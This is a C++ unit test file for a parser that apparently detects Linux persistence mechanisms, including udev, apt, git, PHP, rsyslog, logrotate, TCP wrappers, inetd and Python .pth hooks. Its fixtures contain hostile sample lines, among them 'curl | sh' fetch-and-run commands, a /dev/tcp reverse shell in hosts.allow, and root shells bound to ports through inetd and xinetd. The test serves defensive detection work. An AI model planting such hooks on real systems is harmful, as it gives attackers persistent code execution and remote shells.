#include "support/collecting_context.hpp"
#include "support/samples.hpp"
#include "traces/linux_hook/parser.hpp"
#include <gtest/gtest.h>

namespace konseki::linux_hook {

namespace {

using List = std::vector<std::string>;

struct Parsed {
    List starts; // "location|name|schedule|command|detail"
    List settings; // "section|name|value"
    std::size_t diagnostics = 0;
    std::vector<test::Row> rows;
};

Parsed parse_all(std::string_view content, std::string_view name)
{
    EXPECT_EQ(parser.sniff(as_bytes(content), name), Sniff::sure) << name;
    test::CollectingContext collected;
    parser.parse({ as_bytes(content), { 0, content.size() }, name }, collected.context);
    Parsed parsed;
    parsed.rows = collected.rows("linux.autostart");
    for (auto row : parsed.rows)
        parsed.starts.push_back(
            format("{}|{}|{}|{}|{}", row["location"], row["name"], row["schedule"], row["command"], row["detail"]));
    for (auto row : collected.rows("linux.setting"))
        parsed.settings.push_back(format("{}|{}|{}", row["section"], row["name"], row["value"]));
    parsed.diagnostics = collected.diagnostics.list.size();
    return parsed;
}

std::string sample(std::string_view name)
{
    return test::read_file(std::string(KONSEKI_SOURCE_DIR) + "/src/traces/linux_hook/testdata/" + std::string(name));
}

}

// covers: L26
TEST(LinuxHook, UdevRulesKeepTheirConditions)
{
    auto const parsed = parse_all(sample("x.rules"), "/etc/udev/rules.d/99-x.rules");
    EXPECT_EQ(parsed.starts,
        (List { "L26|99-x.rules|ACTION==\"add\", SUBSYSTEM==\"usb\"|/bin/sh -c \"curl http://x | sh\"|does: fetches "
                "pipes_to_interpreter; RUN",
            "L26|99-x.rules|ACTION==\"add\", SUBSYSTEM==\"usb\"|/bin/p|PROGRAM",
            "L26|99-x.rules||x.service|ENV{SYSTEMD_WANTS}" }));
    EXPECT_EQ(parsed.rows[0].at("line"), "2");
    EXPECT_EQ(parsed.diagnostics, 0U);
}

// covers: L27 L28
TEST(LinuxHook, DesktopEntriesAndBusServices)
{
    auto parsed
        = parse_all("[Desktop Entry]\nName=Update\nExec=/home/h/.x/y\nHidden=true\n[Desktop Action a]\nExec=z\n",
            "/home/h/.config/autostart/x.desktop");
    EXPECT_EQ(parsed.starts, (List { "L27|x.desktop|graphical session|/home/h/.x/y|does: runs_hidden; Name=Update" }));
    EXPECT_EQ(parsed.rows[0].at("is_enabled"), "false");
    EXPECT_EQ(parsed.rows[0].at("user"), "h");
    parsed = parse_all("[D-BUS Service]\nName=org.x\nExec=/tmp/x\nUser=root\nSystemdService=x.service\n",
        "/usr/share/dbus-1/system-services/org.x.service");
    EXPECT_EQ(parsed.starts,
        (List { "L28|org.x|somebody calls the name|/tmp/x|does: runs_from_temporary; SystemdService=x.service" }));
    EXPECT_EQ(parsed.rows[0].at("user"), "root");
}

// covers: L31
TEST(LinuxHook, PackageManagersRunHooks)
{
    auto parsed = parse_all(sample("apt.conf"), "/etc/apt/apt.conf.d/99x");
    EXPECT_EQ(parsed.starts,
        (List { "L31|DPkg::Post-Invoke|packages change|curl http://x | sh|does: fetches pipes_to_interpreter",
            "L31|DPkg::Post-Invoke|packages change|b|",
            "L31|APT::Update::Pre-Invoke|packages change|/tmp/x|does: runs_from_temporary" }));
    EXPECT_EQ(parsed.settings.back(), "apt|APT::Get::AllowUnauthenticated|true");
    EXPECT_EQ(parsed.diagnostics, 0U);
    parsed = parse_all("# c\nlog /var/log/dpkg.log\npost-invoke=\"/bin/x\"\n", "/etc/dpkg/dpkg.cfg.d/x");
    EXPECT_EQ(parsed.starts, (List { "L31|post-invoke|packages change|/bin/x|" }));
    parsed = parse_all(
        "[Trigger]\nOperation=Install\n[Action]\nWhen=PostTransaction\nExec=/bin/x\n", "/etc/pacman.d/hooks/x.hook");
    EXPECT_EQ(parsed.starts, (List { "L31|x.hook|PostTransaction|/bin/x|" }));
    parsed = parse_all("[main]\nplugins=1\n", "/etc/yum.conf");
    EXPECT_EQ(parsed.settings, (List { "main|plugins|1" }));
}

// covers: L33
TEST(LinuxHook, GitRunsWhatItsSettingsName)
{
    auto parsed = parse_all(
        "[core]\n\teditor = vim ; c\n\tfsmonitor = \"/tmp/x # no\"\n[alias]\n\tco = checkout\n\tst = \"!curl x\"\n"
        "[filter \"lfs\"] clean = git-lfs clean -- %f\n[pull]\n\trebase\n",
        "/root/.gitconfig");
    EXPECT_EQ(parsed.starts,
        (List { "L33|core.editor|git is used|vim|",
            "L33|core.fsmonitor|git is used|/tmp/x # no|does: runs_from_temporary",
            "L33|alias.st|git is used|curl x|does: fetches",
            "L33|filter.lfs.clean|git is used|git-lfs clean -- %f|" }));
    EXPECT_EQ(parsed.settings.size(), 6U);
    parsed = parse_all(
        "[core]\n\tbare = false\n\tfsmonitor = true\n[remote \"o\"]\n\turl = https://x\n", "/home/h/p/.git/config");
    EXPECT_EQ(parsed.settings, (List { "remote \"o\"|url|https://x" }));
    EXPECT_TRUE(parsed.starts.empty());
}

// covers: L34
TEST(LinuxHook, PhpPrependsFiles)
{
    auto parsed = parse_all(
        "[PHP]\n; c\nauto_prepend_file = \"/tmp/x.php\"\nauto_append_file =\ndisable_functions = exec,system ; why\n",
        "/etc/php/8.2/apache2/php.ini");
    EXPECT_EQ(parsed.starts, (List { "L34|auto_prepend_file|php runs|/tmp/x.php|does: runs_from_temporary" }));
    EXPECT_EQ(parsed.settings, (List { "php|auto_prepend_file|/tmp/x.php", "php|disable_functions|exec,system" }));
    parsed = parse_all(
        "php_value auto_prepend_file /tmp/x\nAddType application/x-httpd-php .jpg\n", "/var/www/html/.htaccess");
    EXPECT_EQ(parsed.settings, (List { "php|auto_prepend_file|/tmp/x", "php|AddType|application/x-httpd-php .jpg" }));
}

// covers: L36
TEST(LinuxHook, LogsAndMailStartPrograms)
{
    auto parsed = parse_all("module(load=\"omprog\")\naction(type=\"omprog\" binary=\"/tmp/x -a\")\n*.* "
                            "^/bin/y;T\n$ActionOMProgBinary /bin/z\n",
        "/etc/rsyslog.d/x.conf");
    EXPECT_EQ(parsed.starts,
        (List { "L36|binary|a message is logged|/tmp/x -a|does: runs_from_temporary",
            "L36|*.*|a message is logged|/bin/y|", "L36|$ActionOMProgBinary|a message is logged|/bin/z|" }));
    parsed = parse_all(
        "/var/log/x.log {\n  daily\n  postrotate\n    curl x | sh\n    b\n  endscript\n}\ncompresscmd /bin/c\n",
        "/etc/logrotate.d/x");
    EXPECT_EQ(parsed.starts,
        (List { "L36|x|postrotate /var/log/x.log|curl x | sh\n    b|does: fetches pipes_to_interpreter",
            "L36|compresscmd|logs are rotated|/bin/c|" }));
    parsed = parse_all(
        "check process x with pidfile /x\n  start program = \"/bin/x\" as uid root\n  if failed then exec \"/tmp/y\"\n",
        "/etc/monit/conf.d/x");
    ASSERT_EQ(parsed.starts.size(), 2U);
    EXPECT_EQ(parsed.rows[1].at("command"), "/tmp/y");
    parsed = parse_all("root: |\"/tmp/x\"\npostmaster: root\n", "/etc/aliases");
    EXPECT_EQ(parsed.starts, (List { "L36|root|mail arrives|/tmp/x|does: runs_from_temporary" }));
    parsed = parse_all("\"|/tmp/x a\"\n", "/home/h/.forward");
    EXPECT_EQ(parsed.starts, (List { "L36|h|mail arrives|/tmp/x a|does: runs_from_temporary" }));
}

// covers: L37
TEST(LinuxHook, TcpWrappersAndNameServices)
{
    auto parsed = parse_all(
        "ALL: ALL: spawn (/bin/sh -i >& /dev/tcp/1.2.3.4/5) &: allow\nsshd : [::1]\nx\n", "/etc/hosts.allow");
    EXPECT_EQ(parsed.starts,
        (List { "L37|ALL|hosts.allow: ALL|(/bin/sh -i >& /dev/tcp/1.2.3.4/5) &|does: opens_connection stays_behind; "
                "spawn" }));
    EXPECT_EQ(parsed.settings.size(), 2U);
    EXPECT_EQ(parsed.diagnostics, 1U);
    parsed = parse_all(
        "passwd: files systemd\nhosts: files mymachines [NOTFOUND=return !SUCCESS=x] evil # c\n", "/etc/nsswitch.conf");
    EXPECT_EQ(parsed.starts,
        (List { "L37|files|passwd are looked up|libnss_files.so.2|",
            "L37|systemd|passwd are looked up|libnss_systemd.so.2|",
            "L37|mymachines|hosts are looked up|libnss_mymachines.so.2|",
            "L37|evil|hosts are looked up|libnss_evil.so.2|" }));
}

// covers: L39
TEST(LinuxHook, PythonRunsLinesThatImport)
{
    auto const parsed
        = parse_all("import os; os.system('curl x | sh')\n../x\n# c\n", "/usr/lib/python3/dist-packages/x.pth");
    EXPECT_EQ(parsed.starts.size(), 1U);
    EXPECT_EQ(parsed.rows[0].at("location"), "L39");
    EXPECT_EQ(parsed.settings, (List { "x.pth|path|../x" }));
}

// covers: L08 L09 L29
TEST(LinuxHook, OlderWaysToStart)
{
    auto parsed = parse_all("id:2:initdefault:\nx:2345:respawn:/tmp/x a:b\n", "/etc/inittab");
    EXPECT_EQ(parsed.starts, (List { "L08|x|respawn in runlevels 2345|/tmp/x a:b|does: runs_from_temporary" }));
    parsed = parse_all(
        "start on runlevel [2]\nsetuid h\npre-start exec a\nscript\n  b\n  c\nend script\n", "/etc/init/x.conf");
    EXPECT_EQ(parsed.starts,
        (List { "L09|x.conf|pre-start on runlevel [2]|a|", "L09|x.conf|start on runlevel [2]|b\n  c|" }));
    EXPECT_EQ(parsed.rows[1].at("user"), "h");
    parsed = parse_all(
        "service x\n{\n  disable = yes\n  user = root\n  port = 99\n  server = /bin/sh\n  server_args = -i\n}\n",
        "/etc/xinetd.d/x");
    EXPECT_EQ(parsed.starts, (List { "L09|x|port 99|/bin/sh -i|" }));
    EXPECT_EQ(parsed.rows[0].at("is_enabled"), "false");
    parsed = parse_all(
        "99 stream tcp nowait root /bin/sh sh -i\n#c\ntime stream tcp nowait root internal\nx\n", "/etc/inetd.conf");
    EXPECT_EQ(parsed.starts, (List { "L09|99|99/tcp|/bin/sh sh -i|" }));
    parsed = parse_all("iface eth0 inet dhcp\n  post-up /tmp/x &\n", "/etc/network/interfaces");
    EXPECT_EQ(parsed.starts, (List { "L29|eth0 inet dhcp|post-up|/tmp/x &|does: runs_from_temporary stays_behind" }));
    parsed = parse_all(
        "d /run/x 0755 root root -\nf /etc/cron.d/x 0644 root root - * * * * * root id\nz /bin/x 4755 - - -\n",
        "/etc/tmpfiles.d/x.conf");
    EXPECT_EQ(parsed.settings,
        (List { "tmpfiles f|/etc/cron.d/x|0644 root root - * * * * * root id", "tmpfiles z|/bin/x|4755 - - -" }));
}

TEST(LinuxHook, EveryPrefixIsReadWithoutHarm)
{
    for (auto const& [file, name] :
        { std::pair { "x.rules", "/etc/udev/rules.d/x.rules" }, { "apt.conf", "/etc/apt/apt.conf" } }) {
        auto const content = sample(file);
        for (std::size_t size = 0; size < content.size(); ++size)
            EXPECT_LE(parse_all(std::string_view(content).substr(0, size), name).starts.size(), 4U);
    }
}

}
